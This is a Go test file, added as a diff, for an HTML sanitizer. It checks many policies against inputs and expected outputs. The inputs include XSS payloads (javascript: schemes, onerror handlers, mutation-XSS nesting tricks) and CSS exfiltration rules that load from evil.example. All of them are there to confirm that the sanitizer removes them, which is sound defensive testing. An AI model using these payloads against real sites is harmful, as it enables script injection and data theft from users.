@@ -0,0 +1,596 @@
+package sanitize
+
+import (
+	"strings"
+	"testing"
+
+	parser "golang.org/x/net/html"
+)
+
+var feedPolicyTests = []Test{
+	{`<p>Hello <b>world</b></p>`, `<p>Hello <b>world</b></p>`},
+	{`line<br>break<hr></hr>`, `line<br/>break<hr/>`},
+	{`<img src="https://example.com/a.png" alt="A">`, `<img src="https://example.com/a.png" alt="A"/>`},
+	{`<a href="/relative">link</a>`, `<a>link</a>`},
+	{`<a href="https://Example.COM/path">link</a>`, `<a href="https://example.com/path">link</a>`},
+	{`<img src="images/a.png">`, `<img/>`},
+	{`<blockquote cite="javascript:alert(1)">quote</blockquote>`, `<blockquote>quote</blockquote>`},
+	{`<script>alert(1)</script><form action="/x"><input name="q"></form>text`, `text`},
+	{`Tom &amp; Jerry&nbsp;&copy;`, "Tom &amp; Jerry\u00a0\u00a9"},
+	{`<p>1 < 2 > 0 "quoted"</p>`, `<p>1 &lt; 2 &gt; 0 &#34;quoted&#34;</p>`},
+	{`<p onclick="evil()" style="color:red">styled</p>`, `<p>styled</p>`},
+}
+
+func TestFeedPolicy(t *testing.T) {
+	p := FeedPolicy()
+	for _, test := range feedPolicyTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil {
+			t.Fatalf(Format, test.input, test.expected, err)
+		}
+		if output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var removeEmptyTests = []Test{
+	{`<p></p><p>text</p>`, `<p>text</p>`},
+	{`<span style="color:red"> </span>after`, `after`},
+	{`<p><b></b><i>&nbsp;</i></p>`, ``},
+	{`<p><b>bold</b> <i></i></p>`, `<p><b>bold</b> </p>`},
+	{`<p>line<br></p><hr>`, `<p>line<br></p><hr>`},
+	{`<p class="kept"></p>`, `<p class="kept"></p>`},
+	{`<table><tr><td></td></tr></table>`, `<table><tr><td></td></tr></table>`},
+	{`<b>unclosed <i></i>`, `<b>unclosed `},
+}
+
+func TestRemoveEmpty(t *testing.T) {
+	p := &Policy{Tags: []string{"p", "b", "i", "span", "br", "hr", "table", "tr", "td"}, Attributes: []string{"class"}, RemoveEmpty: true}
+	for _, test := range removeEmptyTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var collapseFormattingTests = []Test{
+	{`<b><b>x</b></b>`, `<b>x</b>`},
+	{`<b>a <i>b <b>c</b> d</i> e</b>`, `<b>a <i>b c d</i> e</b>`},
+	{`<em><em><em>deep</em></em></em>`, `<em>deep</em>`},
+	{`<b>one</b><b>two</b>`, `<b>one</b><b>two</b>`},
+	{`<b><b class="x">kept</b></b>`, `<b><b class="x">kept</b></b>`},
+	{`<p><p>paragraphs</p></p>`, `<p><p>paragraphs</p></p>`},
+	{`<b><b>unclosed`, `<b>unclosed`},
+}
+
+func TestCollapseFormatting(t *testing.T) {
+	p := &Policy{Tags: []string{"p", "b", "i", "em"}, Attributes: []string{"class"}, CollapseFormatting: true}
+	for _, test := range collapseFormattingTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var containmentTests = []Test{
+	{`<ul><li>one</li><li>two</li></ul>`, `<ul><li>one</li><li>two</li></ul>`},
+	{`<li class="x">stray</li><p>text</p>`, `<p>stray</p><p>text</p>`},
+	{`<ol><div><li>item</li></div></ol>`, `<ol><div><p>item</p></div></ol>`},
+	{`<td>cell</td> and <th>head</th>`, `cell and head`},
+	{`<table><tbody><tr><td>a</td></tr></tbody></table>`, `<table><tbody><tr><td>a</td></tr></tbody></table>`},
+	{`<tr><td>row</td></tr>`, `row`},
+	{`<table><td>no row</td></table>`, `<table>no row</table>`},
+	{`<dl><dt>term</dt><dd>def</dd></dl><dd>stray</dd>`, `<dl><dt>term</dt><dd>def</dd></dl>stray`},
+}
+
+func TestContainment(t *testing.T) {
+	p := &Policy{Tags: []string{"p", "div", "ul", "ol", "li", "dl", "dt", "dd", "table", "tbody", "tr", "td", "th"}, Attributes: []string{"class"}, Containment: true}
+	for _, test := range containmentTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var duplicateAttributeTests = []Test{
+	{`<a href="/a" href="javascript:alert(1)">x</a>`, `<a href="/a">x</a>`},
+	{`<a href="javascript:alert(1)" href="/b">x</a>`, `<a>x</a>`},
+	{`<a title="one" href="/a" TITLE="two" href="/b">x</a>`, `<a title="one" href="/a">x</a>`},
+}
+
+func TestDuplicateAttributes(t *testing.T) {
+	p := &Policy{Tags: []string{"a"}, Attributes: []string{"href", "title"}, URLs: URLOptions{AllowRelative: true}}
+	for _, test := range duplicateAttributeTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+
+	// Attributes from other parsers may repeat, only the first valid one is kept
+	attributes := p.cleanAttributes("a", []parser.Attribute{
+		{Key: "href", Val: "javascript:alert(1)"},
+		{Key: "href", Val: "/a"},
+		{Key: "href", Val: "/b"},
+	}, nil)
+	if len(attributes) != 1 || attributes[0].Val != "/a" {
+		t.Fatalf("cleanAttributes kept duplicates: %v", attributes)
+	}
+}
+
+var voidElementTests = []struct {
+	input  string
+	legacy string // Compat1
+	html   string // Compat4
+	xhtml  string
+}{
+	{`a<br>b<br/>c<br />d`, `a<br>b<br/>c<br/>d`, `a<br>b<br>c<br>d`, `a<br/>b<br/>c<br/>d`},
+	{`<hr></hr><img src="/a.png"></img>`, `<hr></hr><img src="/a.png"></img>`, `<hr><img src="/a.png">`, `<hr/><img src="/a.png"/>`},
+	{`<p/>text`, `<p/>text`, `<p></p>text`, `<p/>text`},
+	{`</br>end`, `</br>end`, `end`, `end`},
+}
+
+func TestVoidElements(t *testing.T) {
+	for _, test := range voidElementTests {
+		p := &Policy{Tags: []string{"p", "br", "hr", "img"}, Attributes: []string{"src"}, URLAttributes: []string{"src"}, URLs: URLOptions{AllowRelative: true}}
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.legacy {
+			t.Fatalf(Format, test.input, test.legacy, output)
+		}
+		p.Compat = Compat4
+		output, err = p.Sanitize(test.input)
+		if err != nil || output != test.html {
+			t.Fatalf(Format, test.input, test.html, output)
+		}
+		p.XHTML = true
+		output, err = p.Sanitize(test.input)
+		if err != nil || output != test.xhtml {
+			t.Fatalf(Format, test.input, test.xhtml, output)
+		}
+	}
+}
+
+var srcsetTests = []Test{
+	{`<img src="/a.png" srcset="/a-2x.png 2x, /a-3x.png 3x">`, `<img src="/a.png" srcset="/a-2x.png 2x, /a-3x.png 3x">`},
+	{`<img srcset="https://Example.com/a.png 480w,ftp://example.com/a.png 800w, /b.png 1.5x">`, `<img srcset="https://example.com/a.png 480w, /b.png 1.5x">`},
+	{`<img srcset="/a.png 1x, javascript:alert(1) 2x">`, `<img>`},
+	{`<img srcset="data:image/png;base64,AAAA 1x">`, `<img>`},
+	{`<img srcset="/a.png 2x onerror, /b.png">`, `<img srcset="/b.png">`},
+	{`<img srcset="/a.png, /b.png 2x" sizes="(max-width: 600px) 480px, 100vw">`, `<img srcset="/a.png, /b.png 2x" sizes="(max-width: 600px) 480px, 100vw">`},
+	{`<img srcset="/a.png,, /b.png,c 2x">`, `<img srcset="/a.png, /b.png,c 2x">`},
+	{`<img sizes="100vw; background:url(x)">`, `<img>`},
+	{`<picture><source media="(prefers-color-scheme: dark)" srcset="/dark.png"><img src="/light.png" alt="Logo"></picture>`, `<picture><source media="(prefers-color-scheme: dark)" srcset="/dark.png"><img src="/light.png" alt="Logo"></picture>`},
+}
+
+func TestSrcset(t *testing.T) {
+	p := MarkdownPolicy()
+	for _, test := range srcsetTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var mediaPolicyTests = []Test{
+	{`<video controls autoplay src="https://example.com/a.mp4" poster="/a.jpg">no video</video>`, `<video controls="" src="https://example.com/a.mp4" poster="/a.jpg">no video</video>`},
+	{`<audio controls loop><source src="/a.ogg" type="audio/ogg"><source src="javascript:alert(1)"></audio>`, `<audio controls="" loop=""><source src="/a.ogg" type="audio/ogg"><source></audio>`},
+	{`<video src="data:video/mp4;base64,AAAA" poster="ftp://example.com/a.jpg" onplay="evil()"></video>`, `<video></video>`},
+	{`<video><track kind="captions" src="/a.vtt" srclang="en" label="English" default></video>`, `<video><track kind="captions" src="/a.vtt" srclang="en" label="English" default=""></video>`},
+	{`<iframe src="https://example.com/embed"></iframe><a href="/a.mp4" onclick="evil()">download</a>`, `<a href="/a.mp4">download</a>`},
+}
+
+func TestMediaPolicy(t *testing.T) {
+	p := MediaPolicy()
+	for _, test := range mediaPolicyTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var codePolicyTests = []Test{
+	{"<pre><code class=\"language-go\">func main() {\n\tif a < b {\n\t\treturn\n\t}\n}</code></pre>", "<pre><code class=\"language-go\">func main() {\n\tif a &lt; b {\n\t\treturn\n\t}\n}</code></pre>"},
+	{`<pre><code class="language-c++">x++</code></pre>`, `<pre><code class="language-c++">x++</code></pre>`},
+	{`<code class="hljs evil">x</code><code class="language-go other">y</code>`, `<code>x</code><code>y</code>`},
+	{`<p class="language-go">Use <code>go vet</code> and <a href="https://go.dev">docs</a></p>`, `<p class="language-go">Use <code>go vet</code> and <a href="https://go.dev">docs</a></p>`},
+	{`<pre><span style="color:red">x</span><script>alert(1)</script></pre>`, `<pre>x</pre>`},
+}
+
+func TestCodePolicy(t *testing.T) {
+	p := CodePolicy()
+	for _, test := range codePolicyTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var tablePolicyTests = []Test{
+	{`<table><caption>Stats</caption><thead><tr><th scope="col">Name</th><th scope="COL">Count</th></tr></thead><tbody><tr><td>a</td><td>1</td></tr></tbody></table>`,
+		`<table><caption>Stats</caption><thead><tr><th scope="col">Name</th><th scope="COL">Count</th></tr></thead><tbody><tr><td>a</td><td>1</td></tr></tbody></table>`},
+	{`<table><tr><td colspan="2" rowspan="10">wide</td><td colspan="0">zero</td><td rowspan="1000">tall</td></tr></table>`,
+		`<table><tr><td colspan="2" rowspan="10">wide</td><td>zero</td><td>tall</td></tr></table>`},
+	{`<table><tr><th scope="everything" colspan="2;x" style="color:red">h</th></tr></table>`, `<table><tr><th>h</th></tr></table>`},
+	{`<td>stray cell</td><table><tr><td><a href="/a">link</a> <b>bold</b></td></tr></table>`, `stray cell<table><tr><td><a href="/a">link</a> <b>bold</b></td></tr></table>`},
+}
+
+func TestTablePolicy(t *testing.T) {
+	p := TablePolicy()
+	for _, test := range tablePolicyTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var numericAttributeTests = []Test{
+	{`<img width="100" height="50%">`, `<img width="100" height="50%">`},
+	{`<img width="100PX" height="0">`, `<img width="100PX" height="0">`},
+	{`<img width="100em" height="expression(alert(1))">`, `<img>`},
+	{`<img width="1e9" height="999999">`, `<img>`},
+	{`<td colspan="3" rowspan="two">cell</td>`, `<td colspan="3">cell</td>`},
+	{`<p tabindex="-1">focus</p><p tabindex="0">zero</p><p tabindex="first">bad</p>`, `<p tabindex="-1">focus</p><p tabindex="0">zero</p><p>bad</p>`},
+}
+
+func TestNumericAttributes(t *testing.T) {
+	p := &Policy{Tags: []string{"img", "td", "p"}, Attributes: []string{"width", "height", "colspan", "rowspan", "tabindex"}}
+	for _, test := range numericAttributeTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var urlAttributeTests = []Test{
+	{`<form action="javascript:alert(1)"><button formaction="JaVaScRiPt:alert(2)">x</button></form>`, `<form><button>x</button></form>`},
+	{`<form action="/submit"><button formaction="https://Example.com/b">x</button></form>`, `<form action="/submit"><button formaction="https://example.com/b">x</button></form>`},
+	{`<table background="vbscript:alert(1)"><td background="/bg.png">x</td></table>`, `<table><td background="/bg.png">x</td></table>`},
+	{`<video poster="ftp://example.com/a.jpg"></video><img longdesc="/desc.html">`, `<video></video><img longdesc="/desc.html">`},
+	{`<svg><a xlink:href="javascript:alert(1)">x</a><a xlink:href="#top">top</a></svg>`, `<svg><a>x</a><a xlink:href="#top">top</a></svg>`},
+	{`<a href="/a" ping="https://example.com/p ftp://example.com/f /q">x</a>`, `<a href="/a" ping="https://example.com/p /q">x</a>`},
+	{`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, `<iframe></iframe>`},
+}
+
+func TestURLAttributes(t *testing.T) {
+	p := &Policy{
+		Tags:       []string{"form", "button", "table", "td", "video", "img", "svg", "a", "iframe"},
+		Attributes: []string{"action", "formaction", "background", "poster", "longdesc", "xlink:href", "href", "ping", "srcdoc"},
+		URLs:       URLOptions{AllowRelative: true},
+	}
+	for _, test := range urlAttributeTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var obfuscatedSchemeTests = []Test{
+	{`<a href="&#106;avascript:alert(1)">x</a>`, `<a>x</a>`},
+	{`<a title="&amp;#106;avascript:alert(1)">x</a>`, `<a>x</a>`},
+	{`<a title="&amp;amp;#x6A;avascript:alert(1)">x</a>`, `<a>x</a>`},
+	{"<a title=\"java\tscript:alert(1)\">x</a>", `<a>x</a>`},
+	{`<a title="jav&#x0A;ascript:alert(1)">x</a>`, `<a>x</a>`},
+	{"<a title=\"java\u200bscript:alert(1)\">x</a>", `<a>x</a>`},
+	{"<a title=\"java\x0bscript:alert(1)\">x</a>", `<a>x</a>`},
+	{`<a title="\u006aavascript:alert(1)">x</a>`, `<a>x</a>`},
+	{`<a title="\u{6a}avascript:alert(1)">x</a>`, `<a>x</a>`},
+	{`<a title="\6a avascript:alert(1)">x</a>`, `<a>x</a>`},
+	{`<a title="\x64ata:text/html,x">x</a>`, `<a>x</a>`},
+	{`<a title="Java Script: the good parts">x</a>`, `<a>x</a>`},
+	{`<a title="Tom &amp; Jerry \o/">x</a>`, `<a title="Tom &amp; Jerry \o/">x</a>`},
+}
+
+func TestObfuscatedSchemes(t *testing.T) {
+	p := &Policy{Tags: []string{"a"}, Attributes: []string{"href", "title"}}
+	for _, test := range obfuscatedSchemeTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var invalidUTF8Tests = []struct {
+	input    string
+	replace  bool
+	expected string
+}{
+	{"<p>nul\x00byte</p>", false, `<p>nulbyte</p>`},
+	{"<p>nul\x00byte</p>", true, "<p>nul\ufffdbyte</p>"},
+	{"<scr\x00ipt>alert(1)</script>", false, ``},
+	{"<a href=\"java\x00script:alert(1)\">x</a>", false, `<a>x</a>`},
+	{"<p title=\"in\xffvalid\">bad\xc3\x28 utf8\xf0\x9f</p>", false, `<p title="invalid">bad( utf8</p>`},
+	{"<p title=\"in\xffvalid\">bad\xc3\x28 utf8\xf0\x9f</p>", true, "<p title=\"in\ufffdvalid\">bad\ufffd( utf8\ufffd</p>"},
+}
+
+func TestInvalidUTF8(t *testing.T) {
+	for _, test := range invalidUTF8Tests {
+		p := &Policy{Tags: []string{"p", "a"}, Attributes: []string{"href", "title"}, ReplaceInvalid: test.replace}
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+
+	if output := HTMLText("bad\x00\xff text", HTMLOptions{}); output != "bad text" {
+		t.Fatalf(Format, "bad\x00\xff text", "bad text", output)
+	}
+	if output := HTMLText("bad\x00 text", HTMLOptions{ReplaceInvalid: true}); output != "bad\ufffd text" {
+		t.Fatalf(Format, "bad\x00 text", "bad\ufffd text", output)
+	}
+	if output := Path("/a\x00b\xff/c"); output != "/ab/c" {
+		t.Fatalf(Format, "/a\x00b\xff/c", "/ab/c", output)
+	}
+	if output, err := XMLAllowing("<item>bad\xff</item>", []string{"item"}, nil); err != nil || output != "<item>bad</item>" {
+		t.Fatalf(Format, "<item>bad\xff</item>", "<item>bad</item>", output)
+	}
+}
+
+var normalizeInputTests = []Test{
+	{"\xef\xbb\xbf<p>utf-8 bom</p>", "<p>utf-8 bom</p>"},
+	{"\xff\xfe<p>utf-16 bom</p>", "<p>utf-16 bom</p>"},
+	{"<pre>windows\r\nlines\r\n</pre>", "<pre>windows\nlines\n</pre>"},
+	{"<p title=\"a\rb\">mac\rlines</p>", "<p title=\"a\nb\">mac\nlines</p>"},
+	{"<p>text \ufeff in middle</p>", "<p>text \ufeff in middle</p>"},
+}
+
+func TestNormalizeInput(t *testing.T) {
+	p := &Policy{Tags: []string{"p", "pre"}, Attributes: []string{"title"}, NormalizeInput: true}
+	for _, test := range normalizeInputTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+
+	if output := HTMLText("\xef\xbb\xbfone\r\ntwo", HTMLOptions{NormalizeInput: true}); output != "one\ntwo" {
+		t.Fatalf(Format, "\xef\xbb\xbfone\r\ntwo", "one\ntwo", output)
+	}
+}
+
+func TestPartialOutput(t *testing.T) {
+	input := "<p>Kept</p><p>" + strings.Repeat("x", 100) + "</p>"
+
+	p := &Policy{Tags: []string{"p"}, MaxTokenLength: 64}
+	output, err := p.Sanitize(input)
+	if err != parser.ErrBufferExceeded || output != "" {
+		t.Fatalf("Sanitize with MaxTokenLength for %q: %q %v", input, output, err)
+	}
+
+	// The text read before the error is kept
+	p.PartialOutput = true
+	output, err = p.Sanitize(input)
+	if err != parser.ErrBufferExceeded || !strings.HasPrefix(output, "<p>Kept</p><p>x") || strings.HasSuffix(output, "</p>") {
+		t.Fatalf("Sanitize with PartialOutput for %q: %q %v", input, output, err)
+	}
+
+	output, err = Sanitize(input, WithTags("p"), WithMaxTokenLength(64), WithPartialOutput(), WithCompat(Compat2))
+	if err != parser.ErrBufferExceeded || !strings.HasPrefix(output, "<p>Kept</p><p>x") || !strings.HasSuffix(output, "x</p>") {
+		t.Fatalf("Sanitize with PartialOutput for %q: %q %v", input, output, err)
+	}
+
+	output, err = Sanitize(input, WithTags("p"), WithMaxTokenLength(1024))
+	if err != nil || output != input {
+		t.Fatalf("Sanitize with MaxTokenLength for %q: %q %v", input, output, err)
+	}
+}
+
+func TestSanitizeBounds(t *testing.T) {
+	// Tokens longer than the default limit stop sanitizing unless the limit is removed
+	input := "<p>" + strings.Repeat("x", defaultMaxTokenLength+1) + "</p>"
+	p := &Policy{Tags: []string{"p"}}
+	output, err := p.Sanitize(input)
+	if err != parser.ErrBufferExceeded || output != "" {
+		t.Fatalf("Sanitize with the default MaxTokenLength: %d bytes %v", len(output), err)
+	}
+	p.MaxTokenLength = -1
+	output, err = p.Sanitize(input)
+	if err != nil || output != input {
+		t.Fatalf("Sanitize with no MaxTokenLength: %d bytes %v", len(output), err)
+	}
+
+	// Sanitizing returns an error rather than panicking
+	p.Audit = func(AuditEvent) { panic("audit failed") }
+	output, err = p.Sanitize(`<p>a</p><script>alert(1)</script>`)
+	if err != ErrSanitizeFailed || output != "" {
+		t.Fatalf("Sanitize with a panic: %q %v", output, err)
+	}
+}
+
+var cspTests = []Test{
+	{`<p style="color:red" onclick="a()">text</p>`, `<p>text</p>`},
+	{`<style>p > b { color: "red" }</style><p>text</p>`, `<p>text</p>`},
+	{`<script>alert(1)</script><p nonce="guessed">text</p>`, `<p>text</p>`},
+	{`<a href="javascript:alert(1)" class="c">link</a>`, `<a class="c">link</a>`},
+}
+
+var cspNonceTests = []Test{
+	{`<style>p > b { color: "red" }</style><p>text</p>`, `<style nonce="r4nd0m">p > b { color: "red" }</style><p>text</p>`},
+	{`<style nonce="guessed" media="print">p &amp; b {}</style>`, `<style media="print" nonce="r4nd0m">p &amp; b {}</style>`},
+	{`<style></style><script>alert(1)</script>`, `<style nonce="r4nd0m"></style>`},
+	{`<style>@import url(https://evil.example/x.css); input[value^=a]{background:url(https://evil.example/a)}</style><p>text</p>`, `<p>text</p>`},
+	{`<style>p { background: URL ( "https://evil.example/a" ) }</style>`, ``},
+	{`<style>@im/**/port "https://evil.example/x.css";</style>`, ``},
+	{`<style>p { background: \75rl(https://evil.example/a) }</style>`, ``},
+	{`<style>p { background-image: image-set("https://evil.example/a" 1x) }</style>`, ``},
+	{`<style>p { width: expression(alert(1)); behavior: x; -moz-binding: x }</style>`, ``},
+	{`<style>p { color: red }<script>alert(1)</script></style>`, `<style nonce="r4nd0m">p { color: red }\3c script>alert(1)\3c /script></style>`},
+}
+
+func TestCSP(t *testing.T) {
+	p := &Policy{Tags: []string{"p", "a", "style", "script"}, Attributes: []string{"style", "class", "href", "nonce", "media"}, URLs: hrefOptions, CSP: true}
+	for _, test := range cspTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+
+	p.Nonce = "r4nd0m"
+	for _, test := range cspNonceTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+func TestSetDefaultPolicy(t *testing.T) {
+	defer SetDefaultPolicy(nil)
+
+	input := `<p class="c">Hello <b>world</b><u>!</u></p>`
+	tests := []struct {
+		policy   *Policy
+		expected string
+	}{
+		{nil, `<p class="c">Hello <b>world</b>!</p>`},
+		{&Policy{Tags: []string{"b", "u"}}, `Hello <b>world</b><u>!</u>`},
+		{FeedPolicy(), `<p>Hello <b>world</b><u>!</u></p>`},
+		{nil, `<p class="c">Hello <b>world</b>!</p>`},
+	}
+
+	for _, test := range tests {
+		SetDefaultPolicy(test.policy)
+		output, err := HTMLAllowing(input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, input, test.expected, output)
+		}
+		output, err = Sanitize(input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, input, test.expected, output)
+		}
+	}
+
+	// Arguments replace the tags and attributes of the default policy
+	SetDefaultPolicy(FeedPolicy())
+	expected := `Hello <b>world</b>!`
+	output, err := HTMLAllowing(input, []string{"b"})
+	if err != nil || output != expected {
+		t.Fatalf(Format, input, expected, output)
+	}
+}
+
+var strayEndTagTests = []struct {
+	input  string
+	compat CompatLevel
+	output string
+}{
+	{`text</div></p>`, Compat1, `text</div></p>`},
+	{`text</div></p>`, Compat2, `text</div></p>`},
+	{`text</div></p>`, Compat3, `text`},
+	{`<p>a</b></p></p><b>b`, Compat3, `<p>a</p><b>b</b>`},
+	{`<div><p>a</div></p>`, Compat3, `<div><p>a</p></div>`},
+	{`<ul><li>a<li>b</ul></li>`, Compat3, `<ul><li>a</li><li>b</li></ul>`},
+}
+
+func TestStrayEndTags(t *testing.T) {
+	for _, test := range strayEndTagTests {
+		p := &Policy{Tags: []string{"div", "p", "b", "ul", "li"}, Compat: test.compat}
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.output {
+			t.Fatalf(Format, test.input, test.output, output)
+		}
+	}
+}
+
+var ignoredElementTests = []Test{
+	{`<object><embed></embed></object>after`, `after`},
+	{`<object><object></object>hidden</object>after`, `after`},
+	{`<object><object/>hidden</object>hidden</object>after`, `after`},
+	{`<applet><object>hidden</applet>after`, `after`},
+	{`<object><p>hidden</p></object><p>after</p>`, `<p>after</p>`},
+	{`<embed src="a.swf">after`, `after`},
+	{`<base href="/">after`, `after`},
+	{`<frameset><frameset></frameset>hidden</frameset>after`, `after`},
+	{`</object>after`, `after`},
+}
+
+func TestIgnoredElements(t *testing.T) {
+	p := &Policy{Tags: []string{"p"}}
+	for _, test := range ignoredElementTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var rawTextTests = []Test{
+	{`<style></style><script>alert(1)</script><p>after</p>`, `<p>after</p>`},
+	{`<iframe><style></iframe><script>alert(1)</script></style><p>after</p>`, `<p>after</p>`},
+	{`<noembed><style></noembed><img src=x onerror=alert(1)></style>`, `<img src="x">`},
+	{`<title><img src=x onerror=alert(1)></title><p>after</p>`, `<p>after</p>`},
+	{`<script/>alert(1)</script><p>after</p>`, `<p>after</p>`},
+	{`<style/>p{}</style><p>after</p>`, `<p>after</p>`},
+	{`<textarea><p>shown as text</p></textarea>`, `&lt;p&gt;shown as text&lt;/p&gt;`},
+	{`<textarea/><img src=x onerror=alert(1)></textarea>`, `&lt;img src=x onerror=alert(1)&gt;`},
+	{`<xmp></xmp><img src=x onerror=alert(1)>`, `<img src="x">`},
+	{`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `&lt;p title=&#34;<img src="x">&#34;&gt;`},
+	{`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>`, ``},
+}
+
+var rawTextAllowedTests = []Test{
+	{`<textarea><p>text</p></textarea>`, `<textarea>&lt;p&gt;text&lt;/p&gt;</textarea>`},
+	{`<textarea/><img src=x onerror=alert(1)></textarea>`, `<textarea>&lt;img src=x onerror=alert(1)&gt;</textarea>`},
+	{`<title></title><script>alert(1)</script>`, `<title></title>`},
+	{`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><style nonce="n">\3c img src=x onerror=alert(1)></style></svg>`},
+	{`<style>a[title="x"] > b { content: "<" }</style>`, `<style nonce="n">a[title="x"] > b { content: "\3c " }</style>`},
+}
+
+func TestRawTextElements(t *testing.T) {
+	p := &Policy{Tags: []string{"p", "img"}, Attributes: []string{"src", "title"}, URLs: URLOptions{AllowRelative: true}, Compat: Compat4}
+	for _, test := range rawTextTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+
+	p = &Policy{Tags: []string{"textarea", "title", "svg", "style"}, CSP: true, Nonce: "n", Compat: Compat4}
+	for _, test := range rawTextAllowedTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+}
+
+var structuredDataTests = []Test{
+	{`<script type="application/ld+json">{"@type": "Article", "name": "A & B"}</script><p>Text</p>`, `<script type="application/ld+json">{"@type": "Article", "name": "A \u0026 B"}</script><p>Text</p>`},
+	{`<script type="Application/LD+JSON" id="x" onload="alert(1)">{"name": "</script><script>alert(1)</script>"}</script>`, `&#34;}`},
+	{`<script type="application/ld+json">{"name": "<\/script><img src=x onerror=alert(1)>"}</script>`, `<script type="application/ld+json">{"name": "\u003c\/script\u003e\u003cimg src=x onerror=alert(1)\u003e"}</script>`},
+	{`<script type="application/ld+json">{"name": alert(1)}</script><p>Text</p>`, `<p>Text</p>`},
+	{`<script type="application/ld+json"></script>`, ``},
+	{`<script>alert(1)</script><script type="text/javascript">{}</script>`, ``},
+	{`<div itemscope itemtype="https://schema.org/Person" itemid="javascript:alert(1)"><span itemprop="name" itemref="a b">Jane</span></div>`, `<div itemscope="" itemtype="https://schema.org/Person"><span itemprop="name" itemref="a b">Jane</span></div>`},
+	{`<div itemscope itemtype="javascript:alert(1)" itemprop="a&quot;b"><a href="/" itemid="https://example.com/1">x</a></div>`, `<div itemscope=""><a href="/" itemid="https://example.com/1">x</a></div>`},
+}
+
+func TestStructuredData(t *testing.T) {
+	p := DefaultPolicy()
+	p.StructuredData = true
+	for _, test := range structuredDataTests {
+		output, err := p.Sanitize(test.input)
+		if err != nil || output != test.expected {
+			t.Fatalf(Format, test.input, test.expected, output)
+		}
+	}
+
+	// Without the option json-ld and microdata are removed
+	input := structuredDataTests[0].input + structuredDataTests[6].input
+	output, err := Sanitize(input)
+	expected := `<p>Text</p><div><span>Jane</span></div>`
+	if err != nil || output != expected {
+		t.Fatalf(Format, input, expected, output)
+	}
+}